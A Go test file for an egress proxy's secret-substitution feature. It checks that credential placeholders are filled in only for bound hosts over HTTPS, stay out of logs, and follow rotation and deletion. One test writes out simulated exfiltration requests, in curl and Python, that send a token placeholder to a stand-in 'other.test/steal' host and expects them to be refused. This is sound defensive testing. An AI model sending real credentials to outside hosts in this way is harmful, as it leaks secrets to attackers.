package egress

import (
	"encoding/base64"
	"net/http"
	"strings"
	"testing"

	"github.com/berthdev/berth/internal/egress/policy"
	"github.com/berthdev/berth/internal/egress/secrets"
)

const (
	tokenV1 = "tok-ALPHA-0001-value"
	tokenV2 = "tok-BRAVO-0002-value"
	passV1  = "pw-CHARLIE-0003"
)

var allowBoth = policy.Policy{Mode: policy.Allowlist, Domains: []string{"*.allowed.test", "other.test"}}

func secretEnv(t *testing.T, pol policy.Policy) *env {
	e := newEnv(t, pol, true)
	if _, err := e.store.PutWith("github/token", tokenV1, []string{"api.allowed.test"}, secrets.Options{InURL: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.store.PutWith("db-pass", passV1, []string{"*.allowed.test"}, secrets.Options{InURL: true}); err != nil {
		t.Fatal(err)
	}
	e.lookup("api.allowed.test", "udp")
	e.lookup("other.test", "udp")
	t.Cleanup(func() { e.assertNoValueInLogs(tokenV1, tokenV2, passV1) })
	return e
}

// assertNoValueInLogs checks the captured log and refusal events.
func (e *env) assertNoValueInLogs(values ...string) {
	logs := e.logs.String()
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, v := range values {
		if strings.Contains(logs, v) {
			e.t.Errorf("secret value %q appears in the logs", v)
		}
		for _, r := range e.refusals {
			if strings.Contains(r.Reason, v) || strings.Contains(r.Host, v) {
				e.t.Errorf("secret value %q appears in a refusal event", v)
			}
		}
	}
}

func TestSecretsSubstitutedForBoundHostWithCurl(t *testing.T) {
	e := secretEnv(t, allowBoth)
	out, err := e.curl("api.allowed.test", ipAllowed, "443", "-u", `deploy:getSecret("db-pass")`,
		`https://api.allowed.test/v1/getSecret(%22github/token%22)/x?key=getSecret("db-pass")`)
	if err != nil || !strings.HasSuffix(out, "\n200") {
		t.Fatalf("curl: %v %s", err, out)
	}
	s := e.seenLast()
	if got := s.Header.Get("Authorization"); got != "Basic "+base64.StdEncoding.EncodeToString([]byte("deploy:"+passV1)) {
		t.Errorf("basic auth reached upstream as %q", got)
	}
	if s.Path != "/v1/"+tokenV1+"/x" || !strings.Contains(s.RawQuery, "key="+passV1) {
		t.Errorf("URL reached upstream as %q ? %q", s.Path, s.RawQuery)
	}
	out, err = e.curl("api.allowed.test", ipAllowed, "443", "-H", `Authorization: Bearer getSecret("github/token")`,
		"-H", `X-Api-Key: getSecret('db-pass')`, "https://api.allowed.test/header")
	if err != nil || !strings.HasSuffix(out, "\n200") {
		t.Fatalf("curl header: %v %s", err, out)
	}
	s = e.seenLast()
	if s.Header.Get("Authorization") != "Bearer "+tokenV1 || s.Header.Get("X-Api-Key") != passV1 {
		t.Errorf("headers reached upstream as %v", s.Header)
	}
}

func TestSecretsSubstitutedWithPythonUrllib(t *testing.T) {
	e := secretEnv(t, allowBoth)
	out := e.python("https://api.allowed.test/py?t=getSecret(github/token)", ipAllowed,
		map[string]string{"Authorization": `token getSecret("github/token")`})
	if !strings.HasPrefix(out, "200 ") {
		t.Fatalf("python: %s", out)
	}
	s := e.seenLast()
	if s.Header.Get("Authorization") != "token "+tokenV1 || s.RawQuery != "t="+tokenV1 {
		t.Errorf("python request reached upstream as %q %q", s.Header.Get("Authorization"), s.RawQuery)
	}
}

func TestSecretsGitCloneOverHTTPSWithPlaceholderHeader(t *testing.T) {
	e := secretEnv(t, allowBoth)
	root := makeRepo(t)
	e.up.mu.Lock()
	e.up.gitToken, e.up.repoRoot = tokenV1, root
	e.up.mu.Unlock()
	got, err := e.gitClone("api.allowed.test", ipAllowed, `http.extraHeader=Authorization: Bearer getSecret("github/token")`)
	if err != nil || got != "hello from upstream" {
		t.Fatalf("git clone: %v %s", err, got)
	}
}

func TestSecretPlaceholderRefusedForUnboundHost(t *testing.T) {
	e := secretEnv(t, allowBoth)
	n := e.up.count()
	out, _ := e.curl("other.test", ipOther, "443", "-H", `Authorization: Bearer getSecret("github/token")`, "https://other.test/steal")
	if !strings.HasSuffix(out, "403") || !strings.Contains(out, `secret "github/token" is not bound to host "other.test"`) {
		t.Fatalf("unbound host: %s", out)
	}
	// Plain HTTP to a bound host: never substituted in clear text.
	out, _ = e.curl("api.allowed.test", ipAllowed, "80", "-H", `Authorization: Bearer getSecret("github/token")`, "http://api.allowed.test/plain")
	if !strings.HasSuffix(out, "403") || !strings.Contains(out, "only substituted over HTTPS") {
		t.Fatalf("plain http: %s", out)
	}
	py := e.python("https://other.test/steal?x=getSecret(github/token)", ipOther, map[string]string{})
	if !strings.HasPrefix(py, "403 ") || !strings.Contains(py, "not bound") {
		t.Fatalf("python unbound: %s", py)
	}
	if e.up.count() != n {
		t.Fatal("a request with a placeholder for an unbound host reached the upstream")
	}
	if !strings.Contains(e.logs.String(), `"secret":"github/token"`) {
		t.Fatalf("the operator's log does not show the refusal: %s", e.logs.String())
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	found := false
	for _, r := range e.refusals {
		found = found || (r.Secret == "github/token" && r.Host == "other.test" && r.Sandbox == "sb-test")
	}
	if !found {
		t.Fatalf("no refusal event naming the secret and host: %+v", e.refusals)
	}
}

func TestSecretsInOpenModeAreInterceptedToo(t *testing.T) {
	e := secretEnv(t, policy.Policy{Mode: policy.Open})
	code, body := e.get("https://api.allowed.test/open", http.Header{"Authorization": {`Bearer getSecret("github/token")`}})
	if code != 200 || e.seenLast().Header.Get("Authorization") != "Bearer "+tokenV1 {
		t.Fatalf("open mode with secrets: %d %s", code, body)
	}
	code, body = e.get("https://other.test/open", http.Header{"Authorization": {`Bearer getSecret("github/token")`}})
	if code != 403 || !strings.Contains(body, "not bound") {
		t.Fatalf("open mode, unbound host: %d %s", code, body)
	}
}

func TestSecretRotationAndDeletionApplyToNextRequest(t *testing.T) {
	e := secretEnv(t, allowBoth)
	h := http.Header{"Authorization": {`Bearer getSecret("github/token")`}}
	if code, _ := e.get("https://api.allowed.test/r1", h); code != 200 || e.seenLast().Header.Get("Authorization") != "Bearer "+tokenV1 {
		t.Fatal("before rotation")
	}
	if _, err := e.store.Put("github/token", tokenV2, []string{"api.allowed.test"}); err != nil {
		t.Fatal(err)
	}
	if code, _ := e.get("https://api.allowed.test/r2", h); code != 200 || e.seenLast().Header.Get("Authorization") != "Bearer "+tokenV2 {
		t.Fatal("rotation not seen by the next request")
	}
	if err := e.store.Delete("github/token"); err != nil {
		t.Fatal(err)
	}
	n := e.up.count()
	code, body := e.get("https://api.allowed.test/r3", h)
	if code != 403 || !strings.Contains(body, `secret "github/token" does not exist`) || e.up.count() != n {
		t.Fatalf("after deletion: %d %s", code, body)
	}
}
